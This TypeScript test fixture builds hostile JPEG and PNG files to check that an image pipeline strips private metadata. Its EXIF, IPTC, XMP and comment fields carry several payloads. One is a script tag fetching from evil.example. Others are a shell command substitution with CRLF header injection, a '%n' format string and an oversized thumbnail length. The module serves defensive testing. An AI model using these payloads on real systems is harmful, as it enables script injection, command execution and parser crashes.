import { type HostileClass, type HostileFile, MARKER } from '../hostile-file.ts'
import { join, repeated, u16le, u32le } from '../parts/bytes.ts'
import { carryExif, carryXmp, inJpeg, inPng } from '../parts/carriers.ts'
import { segment } from '../parts/jpeg.ts'
import { chunk } from '../parts/png.ts'
import { directory, entry, tiff, tiffOf } from '../parts/tiff.ts'
import type { Samples } from '../samples.ts'

const SCRIPT = `"><script>fetch("//evil.example/${MARKER}")</script>`

/** A directory for positions: 44° 24' N, 8° 56' E, and a name of the area with the marker. */
const gps = () => {
  const area = join('ASCII\0\0\0', MARKER)
  const at = 8 + 18 + 2 + 5 * 12 + 4
  return tiff(
    directory([entry(0x8825, 4, 1, 26)], 0),
    directory([entry(1, 2, 2, 0x4e), entry(2, 5, 3, at), entry(3, 2, 2, 0x45), entry(4, 5, 3, at + 24), entry(0x1c, 7, area.length, at + 48)], 0),
    u32le(44, 1, 24, 1, 37, 1),
    u32le(8, 1, 56, 1, 47, 1),
    area,
  )
}

/** A second directory with a thumbnail: the marker stands in it. */
const thumbnail = (picture: Uint8Array) => {
  const at = 8 + 6 + 2 + 3 * 12 + 4
  return tiff(directory([], 14), directory([entry(0x0103, 3, 1, 6), entry(0x0201, 4, 1, at), entry(0x0202, 4, 1, picture.length)], 0), picture)
}

const exif = (samples: Samples): Record<string, Uint8Array> => ({
  'script as description and maker': tiffOf([0x010e, 0x010f, 0x0110, 0x013b, 0x8298].map(tag => ({ tag, type: 2, data: `${SCRIPT}\0` }))),
  'a command as software': tiffOf([{ tag: 0x0131, type: 2, data: `$(touch /tmp/${MARKER})\`id\`\r\nSet-Cookie: ${MARKER}\0` }]),
  'a format string': tiffOf([{ tag: 0x010e, type: 2, data: `${'%s%n'.repeat(40)}${MARKER}` }]),
  'two bytes a letter': tiffOf([{ tag: 0x9c9b, type: 1, data: Buffer.from(SCRIPT, 'utf16le') }]),
  position: gps(),
  'a small picture': thumbnail(inJpeg(samples.jpeg, segment(0xfe, MARKER)).subarray(0, 30_000)),
  'a small picture that is html': thumbnail(join('<html>', SCRIPT)),
  'a small picture of four billion bytes': join(thumbnail(join(MARKER)).subarray(0, 38), u16le(0x0202, 4), u32le(1, 0xffffffff), u32le(0), MARKER),
})

/** Photoshop's block with a caption (IPTC 2:120). */
const iptc = (caption: string) => {
  const record = join([0x1c, 2, 120, caption.length >> 8, caption.length & 255], caption)
  return segment(0xed, 'Photoshop 3.0\0', '8BIM', [4, 4, 0, 0, 0, 0, record.length >> 8, record.length & 255], record)
}

const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${MARKER}"/></rdf:RDF></x:xmpmeta>`

/** Whole photos that must pass, with what must not come out again. */
export const privateMetadata: HostileClass = {
  name: 'metadata',
  about: 'EXIF script, positions, small pictures, XMP, IPTC and comments, none of which may come out again',
  files(samples) {
    const { jpeg, progressive, png, interlaced } = samples
    const carried = [
      ...Object.entries(exif(samples)).flatMap(([name, tiff]) => carryExif(samples, tiff).map(([carrier, file]) => [`${carrier}: ${name}`, file] as const)),
      ...carryXmp(samples, xmp).map(([carrier, file]) => [`${carrier}: XMP`, file] as const),
      ['jpeg: IPTC', inJpeg(jpeg, iptc(MARKER))] as const,
      ['jpeg: IPTC with a script', inJpeg(progressive, iptc(SCRIPT))] as const,
      ['jpeg: a comment', inJpeg(jpeg, segment(0xfe, SCRIPT))] as const,
      [
        'jpeg: extended XMP in many parts',
        inJpeg(
          jpeg,
          ...Array.from({ length: 20 }, () => segment(0xe1, 'http://ns.adobe.com/xmp/extension/\0', repeated('A', 32), repeated([0xff], 8), MARKER)),
        ),
      ] as const,
      ['jpeg: every APP segment', inJpeg(jpeg, ...Array.from({ length: 16 }, (_, at) => segment(0xe0 + at, MARKER)))] as const,
      ['png: texts', inPng(png, chunk('tEXt', join('Author\0', MARKER)), chunk('iTXt', join('Comment\0\0\0\0\0', SCRIPT)))] as const,
      ['png: time and unknown chunks', inPng(interlaced, chunk('tIME', join([7, 234, 1, 1, 1, 1, 1])), chunk('prVt', join(MARKER)))] as const,
    ]
    return carried.map(([name, file]): HostileFile => ({ name, make: () => file, expected: 'ready' }))
  },
}
